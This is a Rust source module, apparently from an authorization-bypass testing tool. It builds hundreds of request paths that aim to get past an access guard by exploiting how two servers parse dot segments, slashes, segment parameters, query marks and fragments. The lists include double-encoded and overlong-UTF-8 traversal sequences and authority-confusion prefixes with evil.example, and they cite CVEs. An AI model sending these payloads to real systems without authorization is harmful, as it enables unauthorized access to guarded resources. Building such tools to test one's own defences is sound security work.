//! Paths that two servers read differently: dot segments, separators, parameters, and where the path ends.

use crate::bypass::family::Family;
use crate::bypass::trick::{Album, Ground};

/// Sends each path without a token over HTTP/1 and HTTP/2, and some of them with a wrong one.
pub(super) fn send_all(album: &mut Album, ground: &Ground, paths: impl IntoIterator<Item = Vec<u8>>) {
    for (at, path) in paths.into_iter().enumerate() {
        let shown = path.escape_ascii().to_string();
        album.both(&format!("GET {shown}"), &ground.get(&path));
        if at % 4 == 0 {
            album.add(format!("GET {shown}, wrong token"), ground.get(&path).bearer(ground.wrong()).http1());
        }
    }
}

fn album(family: Family, ground: &Ground, paths: Vec<String>) -> Album {
    let mut album = Album::of(family);
    send_all(&mut album, ground, paths.into_iter().map(String::into_bytes));
    album
}

/// `..`, and what somebody takes for it.
const PARENTS: [&str; 16] = [
    "..",
    "%2e%2e",
    "%2E%2E",
    ".%2e",
    "%2e.",
    "%252e%252e",
    "%25%32%65%25%32%65",
    "..%00",
    "..%20",
    "..%09",
    "....",
    "%c0%ae%c0%ae",
    "%e0%80%ae%e0%80%ae",
    "%u002e%u002e",
    "%ef%bc%8e%ef%bc%8e",
    "%e2%80%a5",
];

/// Dot segments.
pub(super) fn dots(ground: &Ground) -> Album {
    let (folder, guarded) = (ground.open_folder(), ground.guarded.as_str());
    let (first, rest) = ground.guarded_parts();
    let mut paths = Vec::new();
    for parent in PARENTS {
        paths.push(format!("{folder}/{parent}{guarded}"));
        paths.push(format!("{folder}/x/{parent}/{parent}{guarded}"));
        paths.push(format!("/{parent}{guarded}"));
        paths.push(format!("/{first}/x/{parent}{rest}"));
        paths.push(format!("{folder}/{parent}/{parent}/{parent}{guarded}"));
    }
    for dot in [".", "%2e", "%2E", "%252e"] {
        paths.push(format!("/{dot}{guarded}"));
        paths.push(format!("/{first}/{dot}{rest}"));
        paths.push(format!("{guarded}/{dot}"));
        paths.push(format!("{folder}/{dot}/..{guarded}"));
    }
    album(Family::PathDots, ground, paths)
}

/// `/`, and what somebody takes for it.
const SEPARATORS: [&str; 16] = [
    "//",
    "///",
    "/./",
    "/%2f",
    "%2f",
    "%2F",
    "%252f",
    "%25%32%66",
    "\\",
    "/\\",
    "%5c",
    "%5C",
    "%255c",
    "%c0%af",
    "%e0%80%af",
    "%ef%bc%8f",
];

/// Separators.
pub(super) fn slashes(ground: &Ground) -> Album {
    let (folder, guarded, host) = (ground.open_folder(), ground.guarded.as_str(), ground.host.as_str());
    let (first, rest) = ground.guarded_parts();
    let below = rest.strip_prefix('/').unwrap_or(rest);
    let mut paths = Vec::new();
    for separator in SEPARATORS {
        paths.push(format!("/{first}{separator}{below}"));
        paths.push(format!("{separator}{first}{rest}"));
        paths.push(format!("/{separator}{first}{rest}"));
        paths.push(format!("{folder}{separator}..{separator}{first}{rest}"));
        paths.push(format!("{folder}/..{separator}{first}{rest}"));
        paths.push(format!("{guarded}{separator}"));
    }
    // CVE-2026-26205: read as an authority, and the path is another
    for authority in ["evil.example", host, "user@evil.example", "evil.example:80", "", "."] {
        paths.extend(["//", "///", "/\\", "\\\\", "/%2f", "/;/"].map(|begin| format!("{begin}{authority}{guarded}")));
    }
    album(Family::PathSlashes, ground, paths)
}

const PARAMETERS: [&str; 14] = [
    ";",
    ";x",
    ";x=1",
    ";x=1;y=2",
    ";jsessionid=1",
    ";x=/",
    ";x=..",
    ";%2f..",
    "%3b",
    "%3Bx=1",
    "%253b",
    "%3b%3b",
    ",x",
    ":x",
];

/// Parameters of segments (RFC 3986 §3.3).
pub(super) fn parameters(ground: &Ground) -> Album {
    let (folder, guarded) = (ground.open_folder(), ground.guarded.as_str());
    let (first, rest) = ground.guarded_parts();
    let mut paths = Vec::new();
    for parameter in PARAMETERS {
        paths.push(format!("/{first}{parameter}{rest}"));
        paths.push(format!("{guarded}{parameter}"));
        paths.push(format!("/{parameter}{guarded}"));
        paths.push(format!("{folder}/..{parameter}{guarded}"));
        paths.push(format!("{folder}/%2e%2e{parameter}{guarded}"));
        paths.push(format!("{folder}{parameter}/..{guarded}"));
        paths.push(format!("{folder}/.{parameter}/..{parameter}{guarded}"));
    }
    album(Family::PathParameters, ground, paths)
}

/// Question marks and fragments.
pub(super) fn query(ground: &Ground) -> Album {
    let (folder, guarded, open) = (ground.open_folder(), ground.guarded.as_str(), ground.open.as_str());
    let (first, rest) = ground.guarded_parts();
    let mut paths = Vec::new();
    let tails = [
        "?",
        "??",
        "?x=1",
        "?/",
        "?x=?",
        "#",
        "#x",
        "?#",
        "#?",
        "?x#y",
        "%3f",
        "%3F",
        "%3fx=1",
        "%253f",
        "%23",
        "%23x",
        "%2523",
        "&x=1",
        "%26x=1",
        "?%00",
        "?\\",
        "?_method=GET",
        "?access_token=x",
        "?url=/",
        "%3f/../..",
        ";?",
        "?;",
        "=",
        "!",
    ];
    for tail in tails {
        paths.push(format!("{guarded}{tail}"));
        paths.push(format!("/{first}{tail}{rest}"));
        paths.push(format!("{guarded}{tail}{open}"));
    }
    // CVE-2021-32779: what follows `#` was part of the path for one of two
    for mark in ["?", "#", "%3f", "%23", "%253f", "%2523", "?x=", "#x=", ";?"] {
        paths.push(format!("{open}{mark}/../..{guarded}"));
        paths.push(format!("{folder}/{mark}/../..{guarded}"));
        paths.push(format!("{mark}{guarded}"));
        paths.push(format!("/{mark}{guarded}"));
    }
    album(Family::Query, ground, paths)
}
